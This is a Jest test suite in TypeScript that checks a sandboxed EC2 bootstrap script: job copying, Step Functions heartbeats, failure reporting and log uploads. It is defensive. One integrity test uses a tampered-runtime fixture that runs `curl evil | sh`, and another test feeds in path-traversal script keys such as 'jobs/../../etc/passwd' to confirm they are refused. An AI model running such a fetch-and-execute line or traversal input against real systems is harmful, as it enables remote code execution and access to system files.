/**
 * bootstrap/: the user data run with bash in a sandbox (test/support/sandbox.ts), where every command that would touch
 * AWS or the machine is a fake that logs its arguments: the job's files, the runtime calls, every way a run can end,
 * the AWS sample's userInput, the boot budget (heartbeats from bash), the boot phase lines, the runtime's integrity
 * and the checks on what the bootstrap reads. (What staging, job logs and activity mode add runs in their parts' tests.)
 */
import * as fs from 'fs';
import * as path from 'path';
import { BOOT_PHASES } from '../../src/protocol';
import { renderBootstrap } from '../support/bootstrap';
import {
  ACCOUNT,
  bashHeartbeats,
  BUCKET,
  callIndex,
  cleanupSandboxes,
  heartbeatCalls,
  IMDS,
  INSTANCE_FOLDER,
  INSTANCE_ID,
  jobObjects,
  modeOf,
  RENDER_OPTIONS,
  RUN_PREFIX,
  RUNTIME_KEY,
  runLog,
  runSandbox,
  sfnRequests,
  sha256,
  summary,
  TASK_KEY,
  taskDocument,
  taskDocumentWith,
} from '../support/sandbox';
import { synth, userDataOf } from '../support/template';

afterAll(cleanupSandboxes);

let fromTemplate: string;
beforeAll(() => {
  fromTemplate = userDataOf(synth());
});

const script = renderBootstrap({ ...RENDER_OPTIONS, heartbeatSeconds: '1' });
const READ_TASK = `aws s3api get-object --bucket ${BUCKET} --key pipeline/tasks/${INSTANCE_ID}.json --expected-bucket-owner ${ACCOUNT} $WORK/task.json`;
const FIRST_HEARTBEAT = 'aws stepfunctions send-task-heartbeat --cli-input-json file://$WORK/heartbeat-request.json';
const READ_RUNTIME = `aws s3api get-object --bucket asset-bucket --key runtime.js --expected-bucket-owner ${ACCOUNT} $WORK/heartbeat.js`;
const CHECK_BUCKET = `aws s3api head-bucket --bucket ${BUCKET} --expected-bucket-owner ${ACCOUNT}`;
/** The source of an `aws s3 cp` call: its first argument that is neither an option nor an option's value. */
const copySource = (c: string[]) => c.slice(3).find((a, i, all) => !a.startsWith('--') && all[i - 1] !== '--exclude') ?? '';

describe('the bootstrap in a sandbox', () => {
  test('runs a job in a folder: hard cap, IMDS, task document, first heartbeat, runtime, job files, heartbeat run, log upload, poweroff', () => {
    const r = runSandbox({ script, objects: jobObjects() });
    expect(summary(r)).toEqual([
      'shutdown -P +75 shell-script-pipeline: hard cap reached',
      ...IMDS,
      READ_TASK,
      FIRST_HEARTBEAT,
      READ_RUNTIME,
      CHECK_BUCKET,
      `aws s3 cp --recursive s3://${BUCKET}/jobs/ $WORK/job/jobs/`,
      'heartbeat run',
      'runtime-first-heartbeat',
      // --before-report: the log goes up while the runtime holds the result back...
      `aws s3 cp $WORK/output.log s3://${RUN_PREFIX}/output.log`,
      // ...and the exit trap uploads it again (the only upload when a run is lost), then the bootstrap log.
      `aws s3 cp $WORK/output.log s3://${RUN_PREFIX}/output.log`,
      `aws s3 cp $WORK/bootstrap.log s3://${RUN_PREFIX}/bootstrap.log`,
      'poweroff',
    ]);
    expect(fs.readFileSync(path.join(r.s3, RUN_PREFIX, 'output.log'), 'utf8')).toContain('job output');
    const [run] = heartbeatCalls(r);
    expect(run.slice(0, 3)).toEqual(['run', '--task-file', '$WORK/task.json']);
    // The job's first process is job-start.sh, which then becomes the job.
    expect(run.slice(run.indexOf('--'))).toEqual(['--', '/bin/bash', '$WORK/job-start.sh', '/bin/bash', '$WORK/job/jobs/nightly.sh']);
    expect(r.cwds).toEqual([path.join(r.work, 'job', 'jobs')]);
    expect(fs.existsSync(path.join(r.work, 'job/jobs/lib/helpers.sh'))).toBe(true);
    expect(fs.existsSync(path.join(r.work, 'job/other'))).toBe(false);
    expect(fs.readFileSync(path.join(r.s3, RUN_PREFIX, 'bootstrap.log'), 'utf8')).toContain('[bootstrap]');
    expect(r.output).toContain('[bootstrap] exiting with status 0');
  });

  test('a script in a folder brings that folder, sub-folders included, even one named pipeline/', () => {
    // The old copy excluded 'pipeline/*' relative to the script's folder, which dropped jobs/pipeline/.
    const r = runSandbox({ script, objects: { ...jobObjects(), [`${BUCKET}/jobs/pipeline/steps.sh`]: 'echo step\n' } });
    expect(fs.existsSync(path.join(r.work, 'job/jobs/pipeline/steps.sh'))).toBe(true);
    expect(fs.existsSync(path.join(r.work, 'job/jobs/lib/helpers.sh'))).toBe(true);
    expect(fs.existsSync(path.join(r.work, 'job/other'))).toBe(false);
  });

  test("a script at the bucket root brings the root's own files, not its folders (large data beside it stays in the bucket)", () => {
    const big = 'x'.repeat(4 * 1024 * 1024);
    const r = runSandbox({
      script,
      objects: {
        ...jobObjects('nightly.sh'),
        [`${BUCKET}/nightly.sh`]: 'echo root\n',
        [`${BUCKET}/settings.env`]: 'A=1\n',
        [`${BUCKET}/data/2026/big.bin`]: big,
        [`${BUCKET}/data/more.bin`]: big,
        [`${BUCKET}/pipeline/runs/old/x/output.log`]: 'old',
      },
    });
    expect(summary(r)).toContain(`aws s3 cp --recursive s3://${BUCKET}/ $WORK/job/ --exclude */*`);
    const arrived = fs.readdirSync(path.join(r.work, 'job'), { recursive: true }).map(String).sort();
    expect(arrived).toEqual(['nightly.sh', 'settings.env']);
    expect(heartbeatCalls(r)[0].slice(-2)).toEqual(['/bin/bash', '$WORK/job/nightly.sh']);
    expect(summary(r).at(-1)).toBe('poweroff');
  });

  test('when the job files cannot be copied: reports Bootstrap.Failed, runs nothing, then powers off', () => {
    const r = runSandbox({ script, objects: jobObjects(), env: { SSP_FAIL_RECURSIVE: '1' } });
    expect(heartbeatCalls(r)).toEqual([
      ['fail', '--task-file', '$WORK/task.json', '--error', 'Bootstrap.Failed', '--cause', `could not copy s3://${BUCKET}/jobs/ to the instance`],
    ]);
    expect(summary(r).slice(-4)).toEqual([
      'heartbeat fail',
      `aws s3 cp $WORK/output.log s3://${RUN_PREFIX}/output.log`,
      `aws s3 cp $WORK/bootstrap.log s3://${RUN_PREFIX}/bootstrap.log`,
      'poweroff',
    ]);
    expect(r.status).not.toBe(0);
  });

  test('when the runtime refuses to start the job (exit 64): reports Bootstrap.Failed instead of waiting for a timeout', () => {
    const r = runSandbox({ script, objects: jobObjects(), env: { SSP_HEARTBEAT_RC: '64' } });
    const calls = heartbeatCalls(r);
    expect(calls.map((c) => c[0])).toEqual(['run', 'fail']);
    expect(calls[1]).toEqual(['fail', '--task-file', '$WORK/task.json', '--error', 'Bootstrap.Failed', '--cause', 'the heartbeat runtime could not start the job (exit 64)']);
    expect(summary(r).at(-1)).toBe('poweroff');
  });

  test('when the runtime reports a job failure (exit 1): nothing more is reported', () => {
    const r = runSandbox({ script, objects: jobObjects(), env: { SSP_HEARTBEAT_RC: '1' } });
    expect(heartbeatCalls(r).map((c) => c[0])).toEqual(['run']);
  });

  test('when the script is not in the bucket: reports Bootstrap.Failed naming it, then powers off', () => {
    const objects = jobObjects();
    delete objects[`${BUCKET}/jobs/nightly.sh`];
    const r = runSandbox({ script, objects });
    expect(heartbeatCalls(r)).toEqual([
      ['fail', '--task-file', '$WORK/task.json', '--error', 'Bootstrap.Failed', '--cause', `s3://${BUCKET}/jobs/nightly.sh was not found in the bucket`],
    ]);
    expect(summary(r).at(-1)).toBe('poweroff');
  });

  test("when no task document comes: keeps asking until the wait is over, then uploads its logs to the instance's folder and powers off", () => {
    const objects = jobObjects();
    delete objects[TASK_KEY];
    // A 3-second wait: with 1 s, a loaded machine sometimes managed only one fetch before the deadline.
    const r = runSandbox({ script: renderBootstrap({ ...RENDER_OPTIONS, heartbeatSeconds: '3' }), objects });
    const fetches = summary(r).filter((l) => l === READ_TASK);
    expect(fetches.length).toBeGreaterThanOrEqual(2);
    expect(heartbeatCalls(r)).toEqual([]);
    expect(sfnRequests(r)).toEqual([]);
    // No execution is known: the logs go to the instance's own folder (pipeline/runs/<aws:userid>/).
    expect(summary(r).filter((l) => l.includes('pipeline/runs/'))).toEqual([
      `aws s3 cp $WORK/output.log s3://${INSTANCE_FOLDER}/output.log`,
      `aws s3 cp $WORK/bootstrap.log s3://${INSTANCE_FOLDER}/bootstrap.log`,
    ]);
    expect(fs.readFileSync(path.join(r.s3, INSTANCE_FOLDER, 'bootstrap.log'), 'utf8')).toContain('[bootstrap] no task document');
    expect(summary(r).at(-1)).toBe('poweroff');
    expect(r.status).not.toBe(0);
  });

  test('when instance metadata is unreachable: powers off before touching S3', () => {
    const r = runSandbox({ script, objects: jobObjects(), env: { SSP_NO_IMDS: '1' } });
    expect(summary(r)[0]).toBe('shutdown -P +75 shell-script-pipeline: hard cap reached');
    expect(summary(r).filter((l) => l.startsWith('aws '))).toEqual([]);
    expect(summary(r).at(-1)).toBe('poweroff');
  });

  test('when the job fails: still uploads the log and powers off', () => {
    const r = runSandbox({ script, objects: jobObjects(), env: { SSP_HEARTBEAT_RC: '1' } });
    expect(summary(r).slice(-6)).toEqual([
      'heartbeat run',
      'runtime-first-heartbeat',
      `aws s3 cp $WORK/output.log s3://${RUN_PREFIX}/output.log`,
      `aws s3 cp $WORK/output.log s3://${RUN_PREFIX}/output.log`,
      `aws s3 cp $WORK/bootstrap.log s3://${RUN_PREFIX}/bootstrap.log`,
      'poweroff',
    ]);
  });

  test('the synthesized UserData makes the same calls as the rendered bootstrap', () => {
    const setting = (name: string) => new RegExp(`^${name}='([^']*)'$`, 'm').exec(fromTemplate)![1];
    const bucket = setting('BUCKET');
    const runtime = setting('RUNTIME_URL').replace(/^s3:\/\//, '');
    // The runtime object must be the very bundle the template names by its sha256.
    const bundle = fs.readFileSync(path.join(__dirname, '..', '..', 'assets', 'runtime', 'cli', 'heartbeat.js'), 'utf8');
    expect(sha256(bundle)).toBe(setting('RUNTIME_SHA256'));
    const objects = {
      [`${bucket}/pipeline/tasks/${INSTANCE_ID}.json`]: taskDocument('jobs/nightly.sh'),
      [runtime]: bundle,
      [`${bucket}/jobs/nightly.sh`]: 'echo nightly\n',
    };
    const rendered = renderBootstrap({
      bucketName: bucket,
      accountId: setting('ACCOUNT'),
      roleId: setting('ROLE_ID'),
      runtimeUrl: `s3://${runtime}`,
      runtimeSha256: setting('RUNTIME_SHA256'),
      jobSeconds: '3600',
      heartbeatSeconds: '300',
    });
    const expected = summary(runSandbox({ script: rendered, objects }));
    expect(expected).toContain('heartbeat run');
    expect(expected.at(-1)).toBe('poweroff');
    expect(summary(runSandbox({ script: fromTemplate, objects }))).toEqual(expected);
  });
});

describe('the boot budget: the bootstrap heartbeats from bash until the runtime takes over', () => {
  test('sends the first heartbeat with the AWS CLI right after reading the task, before installing Node.js or fetching the runtime', () => {
    const r = runSandbox({ script, objects: jobObjects(), withNode: false, env: { SSP_DNF_INSTALLS_NODE: '1' } });
    const lines = summary(r);
    const heartbeat = lines.indexOf(FIRST_HEARTBEAT);
    expect(heartbeat).toBe(lines.indexOf(READ_TASK) + 1);
    expect(lines.indexOf('dnf install -y -q nodejs22')).toBeGreaterThan(heartbeat);
    expect(lines.indexOf(READ_RUNTIME)).toBeGreaterThan(lines.indexOf('dnf install -y -q nodejs22'));
    expect(lines).toContain('heartbeat run');
    expect(lines.at(-1)).toBe('poweroff');
  });

  test('the token goes to the AWS CLI in a 0600 request file holding only the token, never on a command line', () => {
    const r = runSandbox({ script, objects: jobObjects() });
    const [first] = sfnRequests(r);
    expect(first).toEqual({ command: 'send-task-heartbeat', request: { taskToken: 'token-exec-1' } });
    expect(r.calls.filter((c) => c.some((a) => a.includes('token-exec-1')))).toEqual([]);
    expect(modeOf(r, 'heartbeat-request.json')).toBe('600');
  });

  test('heartbeats every HeartbeatSeconds/3 of the task document while it boots, and stops once the job has started', () => {
    // The document says 300 s (the rendered bootstrap's own wait is 1 s): the loop waits 100 s between heartbeats.
    // The job marks its start and end, with ten waits in between (each as short as one of the loop's here).
    const job = 'printf "job-begin\\n" >> "$SSP_CALLS"; for i in 1 2 3 4 5 6 7 8 9 10; do sleep 1; done; printf "job-end\\n" >> "$SSP_CALLS"\n';
    const r = runSandbox({ script, objects: { ...jobObjects(), [`${BUCKET}/jobs/nightly.sh`]: job }, env: { SSP_RUN_JOB: '1' } });
    expect(r.sidecar('job-status')).toBe('0\n');
    const waits = r.calls.filter((c) => c[0] === 'sleep' && c[1] !== '1');
    expect(waits.length).toBeGreaterThan(0);
    expect(new Set(waits.map((c) => c[1]))).toEqual(new Set(['100']));

    const heartbeats = bashHeartbeats(r);
    const runtimeFirst = callIndex(r, (c) => c[0] === 'runtime-first-heartbeat');
    const jobBegin = callIndex(r, (c) => c[0] === 'job-begin');
    const jobEnd = callIndex(r, (c) => c[0] === 'job-end');
    expect(runtimeFirst).toBeGreaterThan(0);
    expect(jobBegin).toBeGreaterThan(runtimeFirst);
    // The loop ran while the instance booted: after the first heartbeat, more came before the runtime's own.
    expect(heartbeats.filter((i) => i < runtimeFirst).length).toBeGreaterThanOrEqual(2);
    // And it is gone once the job runs: a loop still going would send about one heartbeat per wait of the job (ten);
    // at most one shows, a heartbeat already in flight when job-start.sh stopped the loop.
    expect(callIndex(r, (c) => c[0] === 'sleep' && c[1] === '1', jobBegin)).toBeGreaterThan(jobBegin);
    expect(heartbeats.filter((i) => i > jobBegin && i < jobEnd).length).toBeLessThanOrEqual(1);
    expect(heartbeats.filter((i) => i > jobEnd)).toEqual([]);
    expect(fs.readFileSync(path.join(r.work, 'heartbeater.pid'), 'utf8')).toBe('');
  });

  test('keeps heartbeating while the runtime has not started the job, and stops when the runtime exits', () => {
    // The fake runtime runs for 3 s without starting the job (as if its own first heartbeat kept failing): the bash
    // loop is the only heartbeater then, so it must not stop before the runtime has taken over or ended.
    const r = runSandbox({ script, objects: jobObjects(), env: { SSP_RUNTIME_SECONDS: '3' } });
    const run = callIndex(r, (c) => c[0] === 'node' && c[2] === 'run');
    // The before-report hook's upload comes when the runtime is about to report; the exit trap's come after it ended.
    const hookUpload = callIndex(r, (c) => c[0] === 'aws' && c.includes('$WORK/output.log'), run);
    const trapUpload = callIndex(r, (c) => c[0] === 'aws' && c.includes('$WORK/output.log'), hookUpload + 1);
    const lastUpload = callIndex(r, (c) => c[0] === 'aws' && c.includes('$WORK/bootstrap.log'), trapUpload);
    expect([run, hookUpload, trapUpload, lastUpload].every((i) => i > 0)).toBe(true);
    const heartbeats = bashHeartbeats(r);
    expect(heartbeats.filter((i) => i > run && i < hookUpload).length).toBeGreaterThanOrEqual(2);
    expect(heartbeats.filter((i) => i > trapUpload).length).toBeLessThanOrEqual(1);
    expect(heartbeats.filter((i) => i > lastUpload)).toEqual([]);
  });

  test('when Step Functions says the task is over at the first heartbeat: installs nothing, runs nothing, powers off', () => {
    const r = runSandbox({ script, objects: jobObjects(), withNode: false, env: { SSP_DNF_INSTALLS_NODE: '1', SSP_SFN_ERROR: 'TaskTimedOut' } });
    const lines = summary(r);
    expect(lines.filter((l) => l.startsWith('dnf') || l.includes('heartbeat.js') || l.includes('--recursive'))).toEqual([]);
    expect(heartbeatCalls(r)).toEqual([]);
    expect(sfnRequests(r).map((q) => q.command)).toEqual(['send-task-heartbeat']);
    expect(r.output).toContain('An error occurred (TaskTimedOut) when calling the SendTaskHeartbeat operation');
    // The run's folder is known from the task document: its logs go there.
    expect(lines.slice(-3)).toEqual([
      `aws s3 cp $WORK/output.log s3://${RUN_PREFIX}/output.log`,
      `aws s3 cp $WORK/bootstrap.log s3://${RUN_PREFIX}/bootstrap.log`,
      'poweroff',
    ]);
    expect(r.status).not.toBe(0);
  });

  test('a first heartbeat that keeps failing for another reason is tried three times, then the boot goes on', () => {
    const r = runSandbox({ script, objects: jobObjects(), env: { SSP_SFN_ERROR: 'ThrottlingException', SSP_RUN_JOB: '1' } });
    const lines = summary(r);
    const beforeRuntime = r.calls.slice(0, callIndex(r, (c) => c[0] === 'aws' && c.includes('$WORK/heartbeat.js')));
    expect(beforeRuntime.filter((c) => c[0] === 'aws' && c[1] === 'stepfunctions').length).toBeGreaterThanOrEqual(3);
    expect(lines).toContain('heartbeat run');
    expect(r.sidecar('job-status')).toBe('0\n');
    // No first-heartbeat phase line: none went through.
    expect(runLog(r)).not.toContain('first-heartbeat');
  });

  test('without python3 on the image: no heartbeat from bash, the runtime sends the first one and runs the job', () => {
    const r = runSandbox({ script, objects: jobObjects(), withPython: false, env: { SSP_RUN_JOB: '1' } });
    expect(sfnRequests(r)).toEqual([]);
    expect(r.output).toContain('[bootstrap] no python3: the runtime sends the first heartbeat');
    expect(heartbeatCalls(r).map((c) => c[0])).toEqual(['run']);
    expect(r.sidecar('job-status')).toBe('0\n');
  });
});

describe('the boot phase lines (the integration test reads them from the uploaded run log)', () => {
  const PHASE_LINE = /^ssp-phase (userdata-start|task-read|first-heartbeat|node-ready|runtime-fetched|job-start) \d{13}$/;

  test('the run log opens with one line per phase, each once and in boot order, within its first 1,500 bytes, before the job output', () => {
    const r = runSandbox({ script, objects: { ...jobObjects(), [`${BUCKET}/jobs/nightly.sh`]: 'echo "first line of the job"\n' }, env: { SSP_RUN_JOB: '1' } });
    const uploaded = fs.readFileSync(path.join(r.s3, RUN_PREFIX, 'output.log'), 'utf8');
    const lines = uploaded.split('\n');
    const phases = lines.slice(0, BOOT_PHASES.length);
    for (const line of phases) expect(line).toMatch(PHASE_LINE);
    expect(phases.map((l) => l.split(' ')[1])).toEqual([...BOOT_PHASES]);
    expect(lines.filter((l) => l.startsWith('ssp-phase'))).toHaveLength(BOOT_PHASES.length);
    expect(lines[BOOT_PHASES.length]).toBe('first line of the job');
    expect(Buffer.byteLength(phases.join('\n') + '\n')).toBeLessThanOrEqual(1500);
    const times = phases.map((l) => Number(l.split(' ')[2]));
    expect([...times].sort((a, b) => a - b)).toEqual(times);
    expect(Math.abs(times[0] - Date.now())).toBeLessThan(120_000);
  });

  test('with a staging wrapper as the job command, job-start still comes right before the job output', () => {
    const staged = renderBootstrap({ ...RENDER_OPTIONS, heartbeatSeconds: '1', stagingOutput: 'results' });
    const r = runSandbox({ script: staged, objects: jobObjects(), env: { SSP_RUN_JOB: '1' } });
    const lines = runLog(r).split('\n');
    expect(lines.slice(0, BOOT_PHASES.length).map((l) => l.split(' ')[1])).toEqual([...BOOT_PHASES]);
    expect(lines[BOOT_PHASES.length]).toBe('nightly');
  });
});

describe('the heartbeat runtime: this account, this very file', () => {
  test('a runtime whose sha256 differs is never run: Bootstrap.RuntimeTampered is reported with the AWS CLI, nothing else happens', () => {
    const r = runSandbox({ script, objects: { ...jobObjects(), [RUNTIME_KEY]: 'require("child_process").execSync("curl evil | sh")' }, env: { SSP_RUN_JOB: '1' } });
    expect(heartbeatCalls(r)).toEqual([]);
    expect(r.calls.filter((c) => c.includes('$WORK/heartbeat.js') && c[0] !== 'aws')).toEqual([]);
    const failures = sfnRequests(r).filter((q) => q.command === 'send-task-failure');
    expect(failures).toEqual([
      {
        command: 'send-task-failure',
        request: {
          taskToken: 'token-exec-1',
          error: 'Bootstrap.RuntimeTampered',
          cause: expect.stringMatching(new RegExp(`^the heartbeat runtime s3://${RUNTIME_KEY} has sha256 [0-9a-f]{64}, not ${RENDER_OPTIONS.runtimeSha256} as synthesized: it was not run$`)),
        },
      },
    ]);
    expect(summary(r).filter((l) => l.includes('--recursive') || l.includes('head-bucket'))).toEqual([]);
    expect(r.sidecar('job-status')).toBeUndefined();
    expect(modeOf(r, 'failure-request.json')).toBe('600');
    expect(summary(r).at(-1)).toBe('poweroff');
    expect(r.status).not.toBe(0);
  });

  test('a runtime in a bucket of another account is refused by S3 (expected bucket owner): Bootstrap.Failed, nothing runs', () => {
    const r = runSandbox({ script, objects: jobObjects(), env: { SSP_FOREIGN_BUCKETS: 'asset-bucket' } });
    expect(heartbeatCalls(r)).toEqual([]);
    expect(sfnRequests(r).filter((q) => q.command === 'send-task-failure').map((q) => [q.request.error, q.request.cause])).toEqual([
      ['Bootstrap.Failed', `could not fetch the heartbeat runtime s3://${RUNTIME_KEY}`],
    ]);
    expect(r.output).toContain('An error occurred (AccessDenied) when calling the GetObject operation');
  });

  test('without Node.js, and none to install: Bootstrap.Failed is reported at once with the AWS CLI (no waiting for a timeout)', () => {
    const r = runSandbox({ script, objects: jobObjects(), withNode: false });
    expect(sfnRequests(r).filter((q) => q.command === 'send-task-failure').map((q) => q.request.error)).toEqual(['Bootstrap.Failed']);
    expect(summary(r).filter((l) => l.includes('heartbeat.js'))).toEqual([]);
    expect(summary(r).at(-1)).toBe('poweroff');
  });

  test('every S3 read names the account as the expected bucket owner; the recursive copies come after the job bucket was checked', () => {
    const staged = renderBootstrap({ ...RENDER_OPTIONS, heartbeatSeconds: '1', stagingInputs: ['in/a'] });
    const r = runSandbox({ script: staged, objects: { ...jobObjects(), [`${BUCKET}/in/a/x.csv`]: '1\n' } });
    const s3api = r.calls.filter((c) => c[0] === 'aws' && c[1] === 's3api');
    expect(s3api.map((c) => c[2])).toEqual(['get-object', 'get-object', 'head-bucket']);
    for (const c of s3api) expect(c.slice(c.indexOf('--expected-bucket-owner'), c.indexOf('--expected-bucket-owner') + 2)).toEqual(['--expected-bucket-owner', ACCOUNT]);
    // The high-level copies (which cannot name an owner) that read from S3: the job files and the staged inputs.
    const check = callIndex(r, (c) => c[1] === 's3api' && c[2] === 'head-bucket');
    const copiesFromS3 = r.calls.flatMap((c, i) => (c[0] === 'aws' && c[1] === 's3' && copySource(c).startsWith('s3://') ? [i] : []));
    expect(copiesFromS3.map((i) => copySource(r.calls[i]))).toEqual([`s3://${BUCKET}/jobs/`, `s3://${BUCKET}/in/a/`]);
    for (const i of copiesFromS3) expect(i).toBeGreaterThan(check);
  });

  test('a job bucket of another account: the task document is not read from it, nothing runs', () => {
    const r = runSandbox({ script, objects: jobObjects(), env: { SSP_FOREIGN_BUCKETS: BUCKET } });
    expect(heartbeatCalls(r)).toEqual([]);
    expect(sfnRequests(r)).toEqual([]);
    expect(summary(r).filter((l) => l.includes('--recursive'))).toEqual([]);
    expect(summary(r).filter((l) => l === READ_TASK).length).toBeGreaterThan(0);
    expect(fs.existsSync(path.join(r.work, 'task.json'))).toBe(false);
  });
});

describe('what the bootstrap reads and keeps', () => {
  test('the task document is kept in a file only root may read (0600)', () => {
    const r = runSandbox({ script, objects: jobObjects() });
    expect(modeOf(r, 'task.json')).toBe('600');
  });

  test.each([
    ['/etc/cron.d/job.sh'],
    ['jobs/../../etc/passwd'],
    ['..hidden/job.sh'],
    ['pipeline/tasks/i-0aaaaaaaaaaaaaaaa.json'],
    ['pipeline/job.sh'],
  ])('a script key the workflow would refuse (%s) is refused again: Input.ReservedKey, nothing copied or run', (key) => {
    const r = runSandbox({ script, objects: { ...jobObjects(), [TASK_KEY]: taskDocumentWith({ script: key }) }, env: { SSP_RUN_JOB: '1' } });
    expect(heartbeatCalls(r)).toEqual([
      ['fail', '--task-file', '$WORK/task.json', '--error', 'Input.ReservedKey', '--cause', `the script key '${key}' is not allowed: no leading /, no .., nothing under pipeline/`],
    ]);
    expect(summary(r).filter((l) => l.includes('--recursive'))).toEqual([]);
    expect(r.sidecar('job-status')).toBeUndefined();
  });

  test('a key that only looks close is run (jobs/pipeline/x.sh, jobs/a.b.sh)', () => {
    for (const key of ['jobs/pipeline/x.sh', 'jobs/a.b.sh']) {
      const r = runSandbox({ script, objects: { ...jobObjects(), [TASK_KEY]: taskDocumentWith({ script: key }), [`${BUCKET}/${key}`]: 'echo ok\n' } });
      expect({ key, calls: heartbeatCalls(r).map((c) => c[0]) }).toEqual({ key, calls: ['run'] });
    }
  });
});

describe('the bootstrap in a sandbox: userInput (the AWS sample\'s input)', () => {
  const objects = (userInput: string) => ({ ...jobObjects(), [TASK_KEY]: taskDocumentWith({ script: '', userInput }) });

  test('writes the text to $WORK/job/user-input.sh and runs it; nothing is copied from the bucket', () => {
    const userInput = '#!/bin/bash\necho "hello from userInput"\necho "in $(basename "$PWD")"\n';
    const r = runSandbox({ script, objects: objects(userInput), env: { SSP_RUN_JOB: '1' } });
    expect(fs.readFileSync(path.join(r.work, 'job', 'user-input.sh'), 'utf8')).toBe(userInput);
    expect(fs.readdirSync(path.join(r.work, 'job'))).toEqual(['user-input.sh']);
    const [run] = heartbeatCalls(r);
    expect(run[0]).toBe('run');
    expect(run.slice(run.indexOf('--'))).toEqual(['--', '/bin/bash', '$WORK/job-start.sh', '/bin/bash', '$WORK/job/user-input.sh']);
    expect(r.sidecar('job-status')).toBe('0\n');
    expect(fs.readFileSync(path.join(r.s3, RUN_PREFIX, 'output.log'), 'utf8')).toContain('hello from userInput\nin job\n');
    // Only the task document and the runtime are read from S3; the bucket's other files stay there.
    expect(summary(r).filter((l) => l.startsWith('aws s3') && !l.includes(`s3://${BUCKET}/pipeline/runs/`))).toEqual([READ_TASK, READ_RUNTIME, CHECK_BUCKET]);
    expect(summary(r).filter((l) => l.includes('--recursive'))).toEqual([]);
    expect(summary(r).at(-1)).toBe('poweroff');
  });

  test('a userInput of exactly 16384 bytes is run', () => {
    const userInput = `echo ok\n#${'x'.repeat(16384 - 10)}\n`;
    expect(Buffer.byteLength(userInput)).toBe(16384);
    const r = runSandbox({ script, objects: objects(userInput) });
    expect(heartbeatCalls(r).map((c) => c[0])).toEqual(['run']);
  });

  test('a userInput over 16384 bytes: reports Input.UserInputTooLarge, runs nothing, powers off', () => {
    // 8200 characters, 16385 bytes: the limit is in bytes.
    const userInput = `echo too big\n#${'é'.repeat(8185)}\n`;
    expect(Buffer.byteLength(userInput)).toBe(16385);
    // A UTF-8 locale, as on an instance: counting characters instead of bytes would let this through.
    const r = runSandbox({ script, objects: objects(userInput), env: { SSP_RUN_JOB: '1', LANG: 'C.UTF-8' } });
    expect(heartbeatCalls(r)).toEqual([
      [
        'fail', '--task-file', '$WORK/task.json', '--error', 'Input.UserInputTooLarge',
        '--cause', 'userInput is 16385 bytes; the limit is 16384 (EC2 user data). Upload it as a script instead.',
      ],
    ]);
    expect(r.sidecar('job-status')).toBeUndefined();
    expect(summary(r).slice(-4)).toEqual([
      'heartbeat fail',
      `aws s3 cp $WORK/output.log s3://${RUN_PREFIX}/output.log`,
      `aws s3 cp $WORK/bootstrap.log s3://${RUN_PREFIX}/bootstrap.log`,
      'poweroff',
    ]);
    expect(r.status).not.toBe(0);
  });
});
